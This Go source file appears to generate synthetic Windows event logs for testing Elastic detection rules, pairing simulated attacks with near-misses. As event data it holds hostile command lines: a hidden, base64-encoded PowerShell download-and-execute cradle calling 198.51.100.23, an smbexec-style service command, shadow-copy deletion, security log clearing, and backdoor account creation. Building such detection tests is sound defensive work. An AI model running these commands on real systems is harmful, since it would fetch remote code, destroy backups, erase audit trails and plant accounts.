package scenario

import (
	"encoding/base64"
	"fmt"
	"slices"
	"time"
	"unicode/utf16"

	"github.com/weft-dev/weft/testdata/gen/winevt"
)

// WinKind is a story written to Windows' own logs: an attack that
// Elastic's Security-log rules detect, or a near-miss that breaks one
// condition of the rule and must raise nothing.
type WinKind string

// The stories.
const (
	BruteForce          WinKind = "bruteforce"
	BruteForceFour      WinKind = "bruteforce-four"
	BruteForceSlow      WinKind = "bruteforce-slow"
	BruteForceOtherIP   WinKind = "bruteforce-other-ip"
	RemoteService       WinKind = "remote-service"
	ServiceInteractive  WinKind = "remote-service-interactive"
	ServiceLate         WinKind = "remote-service-late"
	SMBExec             WinKind = "smbexec"
	SchedTask           WinKind = "scheduled-task"
	TempSchedTask       WinKind = "temp-scheduled-task"
	RemoteSchedTask     WinKind = "remote-scheduled-task"
	SchedTaskExcluded   WinKind = "scheduled-task-excluded"
	SchedTaskComputer   WinKind = "scheduled-task-computer"
	PrivilegedGroup     WinKind = "privileged-group"
	EnterpriseAdmins    WinKind = "enterprise-admins"
	OrdinaryGroup       WinKind = "ordinary-group"
	LocalAdmins         WinKind = "local-admins"
	ClearLogs           WinKind = "clear-logs"
	QueryLogs           WinKind = "query-logs"
	EncodedPowerShell   WinKind = "encoded-powershell"
	PlainPowerShell     WinKind = "plain-powershell"
	RunAs               WinKind = "runas"
	RunAsOtherLogon     WinKind = "runas-other-logon"
	ShadowCopyDelete    WinKind = "shadow-copy-delete"
	ShadowCopyList      WinKind = "shadow-copy-list"
	NetUserAdd          WinKind = "net-user-add"
	NetUserQuery        WinKind = "net-user-query"
	winInjectionSpacing         = 20 * time.Minute
)

// WinAttacks lists the attacks, WinNearMisses the near-misses.
func WinAttacks() []WinKind {
	return []WinKind{BruteForce, RemoteService, SMBExec, SchedTask, TempSchedTask, RemoteSchedTask, PrivilegedGroup,
		EnterpriseAdmins, ClearLogs, EncodedPowerShell, RunAs, ShadowCopyDelete, NetUserAdd}
}

// WinNearMisses lists the near-misses.
func WinNearMisses() []WinKind {
	return []WinKind{BruteForceFour, BruteForceSlow, BruteForceOtherIP, ServiceInteractive, ServiceLate, SchedTaskExcluded,
		SchedTaskComputer, OrdinaryGroup, LocalAdmins, QueryLogs, PlainPowerShell, RunAsOtherLogon, ShadowCopyList, NetUserQuery}
}

// ParseWinKind reads a story's name.
func ParseWinKind(s string) (WinKind, error) {
	for _, k := range append(WinAttacks(), WinNearMisses()...) {
		if string(k) == s {
			return k, nil
		}
	}
	return "", fmt.Errorf("unknown Windows-log scenario %q (want one of %v or %v)", s, WinAttacks(), WinNearMisses())
}

// Attack tells an attack from a near-miss.
func (k WinKind) Attack() bool { return slices.Contains(WinAttacks(), k) }

// Breaks names, for a near-miss, the rule condition it breaks.
func (k WinKind) Breaks() string {
	switch k {
	case BruteForceFour:
		return "Multiple Logon Failure Followed by Logon Success: with runs=5 — four failures, then the success"
	case BruteForceSlow:
		return "Multiple Logon Failure Followed by Logon Success: maxspan=5s — five failures and the success over twelve seconds"
	case BruteForceOtherIP:
		return "Multiple Logon Failure Followed by Logon Success: sequence by source.ip — the success comes from another address"
	case ServiceInteractive:
		return `Remote Windows Service Installed: winlog.logon.type : "Network" — the installer logged on over RDP (RemoteInteractive)`
	case ServiceLate:
		return "Remote Windows Service Installed: maxspan=1m — the service is installed 70 s after the network logon"
	case SchedTaskExcluded:
		return `A scheduled task was created: not winlog.event_data.TaskName : "\\OneDrive Standalone Update Task-S-1-5-21*" — OneDrive's own task`
	case SchedTaskComputer:
		return `A scheduled task was created: not user.name : "*$" — the computer account creates and deletes the task`
	case OrdinaryGroup:
		return "User Added to Privileged Group in Active Directory: group.name / group.id — the group is an ordinary one"
	case LocalAdmins:
		return `User Added to Privileged Group in Active Directory: group.id : "S-1-5-21*" — BUILTIN\Administrators is S-1-5-32-544`
	case QueryLogs:
		return `Clearing Windows Event Logs: process.args : ("/e:false", "cl", "clear-log") — wevtutil queries the log`
	case PlainPowerShell:
		return "Suspicious Windows Powershell Arguments: process.command_line — a plain script run"
	case RunAsOtherLogon:
		return "Process Creation via Secondary Logon: by winlog.event_data.TargetLogonId — the process runs in the user's own logon"
	case ShadowCopyList:
		return `Volume Shadow Copy Deleted or Resized via VssAdmin: process.args : ("delete", "resize") — vssadmin lists them`
	case NetUserQuery:
		return `User Account Creation: process.args : ("/ad", "/add") — net user looks an account up`
	}
	return ""
}

// onDC tells the stories a domain controller logs.
func (k WinKind) onDC() bool {
	switch k {
	case PrivilegedGroup, EnterpriseAdmins, OrdinaryGroup:
		return true
	}
	return false
}

// The Elastic rules the attacks raise.
var (
	ruleBruteForce    = Rule{ID: "4e85dc8a-3e41-40d8-bc28-91af7ac6cf60", Name: "Multiple Logon Failure Followed by Logon Success"}
	ruleRemoteService = Rule{ID: "d33ea3bf-9a11-463e-bd46-f648f2a0f4b1", Name: "Remote Windows Service Installed"}
	ruleSuspService   = Rule{ID: "da87eee1-129c-4661-a7aa-57d0b9645fad", Name: "Suspicious Service was Installed in the System"}
	ruleShellService  = Rule{ID: "0022d47d-39c7-4f69-a232-4fe9dc7a3acd", Name: "System Shells via Services"}
	ruleTaskCreated   = Rule{ID: "92a6faf5-78ec-4e25-bea1-73bacc9b59d9", Name: "A scheduled task was created"}
	ruleTempTask      = Rule{ID: "81ff45f8-f8c2-4e28-992e-5a0e8d98e0fe", Name: "Temporarily Scheduled Task Creation"}
	ruleRemoteTask    = Rule{ID: "9c865691-5599-447a-bac9-b3f2df5f9a9d", Name: "Remote Scheduled Task Creation via RPC"}
	rulePrivGroup     = Rule{ID: "5cd8e1f7-0050-4afc-b2df-904e40b2f5ae", Name: "User Added to Privileged Group in Active Directory"}
	ruleClearLogs     = Rule{ID: "d331bbe2-6db4-4941-80a5-8270db72eb61", Name: "Clearing Windows Event Logs"}
	rulePSArgs        = Rule{ID: "83bf249e-4348-47ba-9741-1202a09556ad", Name: "Suspicious Windows Powershell Arguments"}
	ruleRunAs         = Rule{ID: "42eeee3d-947f-46d3-a14d-7036b962c266", Name: "Process Creation via Secondary Logon"}
	ruleVSS           = Rule{ID: "b5ea4bfe-a1b2-421f-9d47-22a75a6f2921", Name: "Volume Shadow Copy Deleted or Resized via VssAdmin"}
	ruleUserAdd       = Rule{ID: "1aa9181a-492b-4c01-8b16-fa0735786b2b", Name: "User Account Creation"}
)

// winInjection is one story, planned before any host is generated.
type winInjection struct {
	kind   WinKind
	host   int // index into the hosts; the domain controller is the last
	at     time.Time
	peer   peer
	user   string
	events []*winevt.Event
	expect []expectation
}

// expectation is an alert a story must raise, if the channel of the event
// that raises it is written.
type expectation struct {
	rule    Rule
	channel string
}

func (inj *winInjection) keep(evs ...*winevt.Event) {
	for _, ev := range evs {
		if ev != nil {
			inj.events = append(inj.events, ev)
		}
	}
}

func (inj *winInjection) want(r Rule, channel string) {
	inj.expect = append(inj.expect, expectation{rule: r, channel: channel})
}

// planWin places the stories: one every winInjectionSpacing at most, on a
// host drawn from their own stream, so that neither the background nor
// the Sysmon injections move when stories are added.
func planWin(cfg *Config, hosts []*host, dc int) ([]*winInjection, error) {
	if len(cfg.WinScenarios) == 0 {
		return nil, nil
	}
	r := newRNG(cfg.Seed, 0x5ec0ffff)
	lo, hi := cfg.Start.Add(5*time.Minute), cfg.Start.Add(cfg.Span-3*time.Minute)
	if !hi.After(lo) {
		return nil, fmt.Errorf("span %v is too short for Windows-log scenarios: it needs more than 8 minutes", cfg.Span)
	}
	var out []*winInjection
	for _, k := range cfg.WinScenarios {
		inj := &winInjection{kind: k, host: r.intn(len(hosts) - 1), user: pick(r, firstNames)}
		if k.onDC() {
			inj.host = dc
		}
		if k == LocalAdmins || k == RunAs || k == RunAsOtherLogon {
			// a workstation: it has a logged-on user
			for tries := 0; hosts[inj.host].server && tries < 64; tries++ {
				inj.host = r.intn(len(hosts) - 1)
			}
			if hosts[inj.host].server {
				return nil, fmt.Errorf("scenario %s needs a workstation (hosts not divisible by 5)", k)
			}
		}
		inj.at = lo.Add(r.duration(0, hi.Sub(lo))).Truncate(time.Microsecond)
		others := []peer{}
		for i, h := range hosts[:len(hosts)-1] {
			if i != inj.host {
				others = append(others, peer{name: h.name, ip: h.ip})
			}
		}
		if len(others) == 0 {
			others = append(others, peer{name: "WKS-IT-99." + cfg.domain(), ip: "10.20.30.15"})
		}
		inj.peer = pick(r, others)
		out = append(out, inj)
	}
	return out, nil
}

// utf16Base64 is how powershell.exe -EncodedCommand takes a script.
func utf16Base64(s string) string {
	u := utf16.Encode([]rune(s))
	b := make([]byte, 2*len(u))
	for i, c := range u {
		b[2*i], b[2*i+1] = byte(c), byte(c>>8)
	}
	return base64.StdEncoding.EncodeToString(b)
}

// winInject plays a story on h.
func (h *host) winInject(inj *winInjection) {
	w := h.win
	t := inj.at
	admin := h.session(domainAccount("adm-" + inj.user))
	admin.label, admin.elevation = "S-1-16-12288", "%%1937"
	src := inj.peer
	port := func() string { return fmt.Sprint(w.r.between(49152, 65535)) }
	switch inj.kind {
	case BruteForce, BruteForceFour, BruteForceSlow, BruteForceOtherIP:
		local := &secAccount{name: "Administrator", domain: h.peerName(peer{name: h.name}), sid: w.machine + "-500"}
		fails, step := 5, 700*time.Millisecond
		switch inj.kind {
		case BruteForceFour:
			fails = 4
		case BruteForceSlow:
			step = 2400 * time.Millisecond
		}
		at := t
		for range fails {
			inj.keep(h.logon4625(at, logon{target: local, logonType: 3, process: "NtLmSsp ", pkg: "NTLM", workstation: h.peerName(src),
				processName: "-", ip: src.ip, port: port(), status: 0xc000006d, sub: 0xc000006a, failureReason: "%%2313"}))
			at = at.Add(step + w.r.duration(0, 100*time.Millisecond))
		}
		from := src
		if inj.kind == BruteForceOtherIP {
			from = peer{name: src.name, ip: "10.20.99.23"}
		}
		s := h.session(local)
		inj.keep(h.logon4624(at, logon{target: s, logonType: 3, process: "NtLmSsp ", pkg: "NTLM", workstation: h.peerName(src),
			processName: "-", ip: from.ip, port: port(), elevated: true}))
		inj.keep(h.special(at, s, adminPrivileges))
		inj.keep(h.logoff(h.winAfter(at, time.Second, 20*time.Second), s, 3))
		if inj.kind == BruteForce {
			inj.want(ruleBruteForce, winevt.Security)
		}

	case RemoteService, ServiceLate, SMBExec:
		pkg, proc := "Kerberos", "Kerberos"
		if inj.kind == SMBExec {
			pkg, proc = "NTLM", "NtLmSsp "
		}
		inj.keep(h.logon4624(t, logon{target: admin, logonType: 3, process: proc, pkg: pkg, workstation: h.peerName(src),
			guid: h.kerberosGUID(t), kerberos: pkg == "Kerberos", processName: "-", ip: src.ip, port: port(), elevated: true}))
		inj.keep(h.special(t, admin, adminPrivileges))
		at := h.winAfter(t, 2*time.Second, 20*time.Second)
		if inj.kind == ServiceLate {
			at = t.Add(70 * time.Second)
		}
		name, file := "UpdSvc", `C:\ProgramData\UpdSvc\updsvc.exe`
		if inj.kind == SMBExec {
			name = "BTOBTO"
			file = `%COMSPEC% /Q /c echo cd  ^> \\127.0.0.1\C$\__output 2^>^&1 > %TEMP%\execute.bat & %COMSPEC% /Q /c %TEMP%\execute.bat & del %TEMP%\execute.bat`
		}
		s4697, s7045 := h.service(at, admin, name, file, 0)
		inj.keep(s4697, s7045)
		if inj.kind == SMBExec {
			cmd, ev := h.newProcess(at.Add(40*time.Millisecond), h.wproc(h.services, w.system), `C:\Windows\System32\cmd.exe`,
				`C:\Windows\system32\cmd.exe /Q /c echo cd  ^> \\127.0.0.1\C$\__output 2^>^&1 > C:\Windows\TEMP\execute.bat & C:\Windows\system32\cmd.exe /Q /c C:\Windows\TEMP\execute.bat & del C:\Windows\TEMP\execute.bat`,
				w.system, nil)
			inj.keep(ev, h.endProcess(at.Add(300*time.Millisecond), cmd))
			inj.want(ruleSuspService, winevt.Security)
			inj.want(ruleSuspService, winevt.System)
			inj.want(ruleShellService, winevt.Security)
		} else {
			inj.keep(h.serviceState(at.Add(200*time.Millisecond), name, "running"))
		}
		inj.keep(h.logoff(at.Add(w.r.duration(time.Second, 10*time.Second)), admin, 3))
		if inj.kind != ServiceLate {
			inj.want(ruleRemoteService, winevt.Security)
		}

	case ServiceInteractive:
		inj.keep(h.logon4624(t, logon{subject: w.system, target: admin, logonType: 10, process: "User32 ", pkg: "Negotiate",
			workstation: h.peerName(peer{name: h.name}), pid: uint32(w.r.between(300, 3000) * 4), processName: `C:\Windows\System32\svchost.exe`,
			ip: src.ip, port: "0", elevated: true}))
		inj.keep(h.special(t, admin, adminPrivileges))
		at := h.winAfter(t, 10*time.Second, 40*time.Second)
		s4697, s7045 := h.service(at, admin, "UpdSvc", `C:\ProgramData\UpdSvc\updsvc.exe`, uint32(w.r.between(300, 3000)*4))
		inj.keep(s4697, s7045, h.serviceState(at.Add(200*time.Millisecond), "UpdSvc", "running"))

	case SchedTask, TempSchedTask, SchedTaskExcluded, SchedTaskComputer:
		by := admin
		name := `\OneDriveSync`
		cmd, args := `C:\Users\Public\sync.exe`, `-silent`
		switch inj.kind {
		case TempSchedTask:
			name = `\Microsoft\Windows\Maintenance\` + h.psGUID()[:8]
			cmd, args = `C:\Windows\System32\cmd.exe`, `/c C:\Windows\Temp\stage.bat`
		case SchedTaskExcluded:
			by = h.session(domainAccount(inj.user))
			name = `\OneDrive Standalone Update Task-` + by.sid
			cmd, args = `%localappdata%\Microsoft\OneDrive\OneDriveStandaloneUpdater.exe`, `/reporting`
		case SchedTaskComputer:
			by = w.system
			name = `\Microsoft\Windows\UpdateOrchestrator\Schedule Maintenance Work`
		}
		content := taskXML(by.domain+`\`+by.name, cmd, args)
		inj.keep(h.task(4698, t, by, name, content, uint32(w.r.between(300, 12000)*4), 1))
		if inj.kind == TempSchedTask || inj.kind == SchedTaskComputer {
			inj.keep(h.task(4699, h.winAfter(t, 20*time.Second, 3*time.Minute), by, name, content, uint32(w.r.between(300, 12000)*4), 1))
		}
		if inj.kind == SchedTask || inj.kind == TempSchedTask {
			inj.want(ruleTaskCreated, winevt.Security)
		}
		if inj.kind == TempSchedTask {
			inj.want(ruleTempTask, winevt.Security)
		}

	case RemoteSchedTask:
		inj.keep(h.logon4624(t, logon{target: admin, logonType: 3, process: "Kerberos", pkg: "Kerberos", workstation: h.peerName(src),
			guid: h.kerberosGUID(t), kerberos: true, processName: "-", ip: src.ip, port: port(), elevated: true}))
		inj.keep(h.special(t, admin, adminPrivileges))
		at := h.winAfter(t, 500*time.Millisecond, 5*time.Second)
		inj.keep(h.task(4698, at, admin, `\WindowsUpdateCheck`, taskXML(admin.domain+`\`+admin.name, `C:\Windows\Temp\wuc.exe`, ``), 0, 0))
		inj.keep(h.logoff(h.winAfter(at, time.Second, 10*time.Second), admin, 3))
		inj.want(ruleTaskCreated, winevt.Security)
		inj.want(ruleRemoteTask, winevt.Security)

	case PrivilegedGroup, EnterpriseAdmins, OrdinaryGroup:
		member := domainAccount(inj.user)
		id, group, rid := uint16(4728), "Domain Admins", "512"
		switch inj.kind {
		case PrivilegedGroup:
			member = &secAccount{name: "svc-backup" + fmt.Sprint(w.r.between(2, 9)), domain: domainName, sid: fmt.Sprintf("%s-%d", domainSID, w.r.between(9100, 9900))}
			inj.keep(h.createUser(t, admin, member))
			t = h.winAfter(t, 3*time.Second, 30*time.Second)
		case EnterpriseAdmins:
			id, group, rid = 4756, "Enterprise Admins", "519"
		case OrdinaryGroup:
			group, rid = "FIN-Readers", "1160"
		}
		inj.keep(h.groupMember(id, t, admin, member, group, domainName, domainSID+"-"+rid))
		if inj.kind != OrdinaryGroup {
			inj.want(rulePrivGroup, winevt.Security)
		}

	case LocalAdmins:
		member := domainAccount(inj.user)
		inj.keep(h.groupMember(4732, t, admin, member, "Administrators", "Builtin", "S-1-5-32-544"))

	case ClearLogs, QueryLogs, ShadowCopyDelete, ShadowCopyList, NetUserAdd, NetUserQuery:
		cmd, _ := h.newProcess(t, h.wproc(h.explorer, admin), `C:\Windows\System32\cmd.exe`, `"C:\Windows\system32\cmd.exe"`, admin, nil)
		at := h.winAfter(t, 3*time.Second, 20*time.Second)
		run := func(img, line string) *winProc {
			p, ev := h.newProcess(at, cmd, img, line, admin, nil)
			inj.keep(ev)
			end := h.winAfter(at, 100*time.Millisecond, 2*time.Second)
			inj.keep(h.endProcess(end, p))
			at = end.Add(w.r.duration(time.Second, 10*time.Second))
			return p
		}
		switch inj.kind {
		case ClearLogs:
			run(`C:\Windows\System32\wevtutil.exe`, `wevtutil  cl Security`)
			inj.keep(h.clearLog(at.Add(-w.r.duration(200*time.Millisecond, 900*time.Millisecond)), admin, winevt.Security))
			run(`C:\Windows\System32\wevtutil.exe`, `wevtutil  cl System`)
			inj.keep(h.clearLog(at.Add(-w.r.duration(200*time.Millisecond, 900*time.Millisecond)), admin, winevt.System))
			inj.want(ruleClearLogs, winevt.Security)
			inj.want(ruleClearLogs, winevt.Security)
		case QueryLogs:
			run(`C:\Windows\System32\wevtutil.exe`, `wevtutil  qe Security /c:20 /rd:true /f:text`)
		case ShadowCopyDelete:
			run(`C:\Windows\System32\vssadmin.exe`, `vssadmin  delete shadows /all /quiet`)
			inj.want(ruleVSS, winevt.Security)
		case ShadowCopyList:
			run(`C:\Windows\System32\vssadmin.exe`, `vssadmin  list shadows`)
		case NetUserAdd:
			net := run(`C:\Windows\System32\net.exe`, `net  user helpdesk2 Winter2026! /add`)
			p, ev := h.newProcess(at.Add(-w.r.duration(time.Second, 2*time.Second)), net, `C:\Windows\System32\net1.exe`, `C:\Windows\system32\net1  user helpdesk2 Winter2026! /add`, admin, nil)
			inj.keep(ev, h.endProcess(at, p))
			local := &secAccount{name: "helpdesk2", domain: h.peerName(peer{name: h.name}), sid: w.machine + "-1001"}
			inj.keep(h.createUser(at, admin, local))
			inj.want(ruleUserAdd, winevt.Security)
		case NetUserQuery:
			run(`C:\Windows\System32\net.exe`, `net  user `+inj.user+` /domain`)
		}
		inj.keep(h.endProcess(at, cmd))

	case EncodedPowerShell, PlainPowerShell:
		user := w.user
		if user == nil {
			user = w.admin
		}
		cmd, ev := h.newProcess(t, h.wproc(h.explorer, user), `C:\Windows\System32\cmd.exe`, `"C:\Windows\system32\cmd.exe"`, user, nil)
		inj.keep(ev)
		script := `IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/a.ps1')`
		line := `powershell.exe  -NoP -NonI -W Hidden -enc ` + utf16Base64(script)
		suspicious := true
		if inj.kind == PlainPowerShell {
			script = `Get-CimInstance Win32_OperatingSystem | Select-Object Caption, Version, LastBootUpTime`
			line = `powershell.exe  -NoProfile -File C:\Scripts\inventory.ps1`
			suspicious = false
		}
		at := h.winAfter(t, 2*time.Second, 20*time.Second)
		ps, ev := h.newProcess(at, cmd, `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, line, user, nil)
		inj.keep(ev)
		end := h.winAfter(at, 3*time.Second, 40*time.Second)
		inj.keep(h.psSession(at, ps, line, []string{script}, suspicious, end)...)
		inj.keep(h.endProcess(end.Add(2*time.Millisecond), ps), h.endProcess(end.Add(time.Second), cmd))
		if inj.kind == EncodedPowerShell {
			inj.want(rulePSArgs, winevt.Security)
		}

	case RunAs, RunAsOtherLogon:
		user := w.user
		explorer := h.wproc(h.explorer, user)
		runas, ev := h.newProcess(t, explorer, `C:\Windows\System32\runas.exe`, `runas  /user:CORP\adm-`+inj.user+` cmd`, user, nil)
		inj.keep(ev)
		at := h.winAfter(t, 3*time.Second, 10*time.Second)
		seclogon := uint32(w.r.between(300, 3000) * 4)
		inj.keep(h.sec(4648, at, append(subj(user), vnullGUID(), vs(admin.name), vs(admin.domain), vnullGUID(), vs("localhost"),
			vs("localhost"), vh(uint64(seclogon)), vs(`C:\Windows\System32\svchost.exe`), vs("::1"), vs("0"))...))
		inj.keep(h.logon4624(at, logon{subject: user, target: admin, logonType: 2, process: "seclogo", pkg: "Negotiate", workstation: "-",
			pid: seclogon, processName: `C:\Windows\System32\svchost.exe`, ip: "::1", port: "0", elevated: true}))
		inj.keep(h.special(at, admin, adminPrivileges))
		var p *winProc
		if inj.kind == RunAs {
			p, ev = h.newProcess(at.Add(w.r.duration(50*time.Millisecond, 900*time.Millisecond)), runas,
				`C:\Windows\System32\cmd.exe`, `cmd`, user, admin)
		} else { // the user gives up and opens a file as themselves
			p, ev = h.newProcess(at.Add(w.r.duration(3*time.Second, 20*time.Second)), explorer, `C:\Windows\System32\notepad.exe`,
				`"C:\Windows\system32\notepad.exe"`, user, nil)
		}
		inj.keep(ev, h.endProcess(h.winAfter(at, time.Minute, 5*time.Minute), p), h.endProcess(at.Add(time.Second), runas))
		if inj.kind == RunAs {
			inj.want(ruleRunAs, winevt.Security)
		}
	}
}
